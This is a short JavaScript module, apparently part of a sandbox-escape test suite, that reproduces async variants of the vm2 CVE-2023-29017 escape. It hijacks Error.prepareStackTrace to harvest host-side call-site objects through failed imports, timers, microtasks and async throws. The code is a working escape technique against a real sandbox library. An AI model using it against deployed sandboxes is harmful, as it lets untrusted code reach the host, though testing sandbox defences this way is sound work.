// From: vm2's async variants of CVE-2023-29017: the same through rejections and timers.
// Ends: [] or error exception
import { gains } from "../gains.js";

export const attack = async () => {
  const found = [];
  Error.prepareStackTrace = (error, sites) => {
    for (const site of sites) {
      if (!(site.getFileName() ?? "aardvark:").startsWith("aardvark:")) continue;
      found.push(() => site.getThis(), () => site.getFunction(), () => site.getPromiseIndex() ?? undefined);
    }
    return `${error}`;
  };
  await import("./no-such-file.js").catch((error) => void error.stack);
  await new Promise((done) => setTimeout(() => done(void new Error().stack), 1));
  await new Promise((done) => queueMicrotask(() => done(void new Error().stack)));
  await (async () => { await null; throw new Error(); })().catch((error) => void error.stack);
  delete Error.prepareStackTrace;
  return gains(found);
};
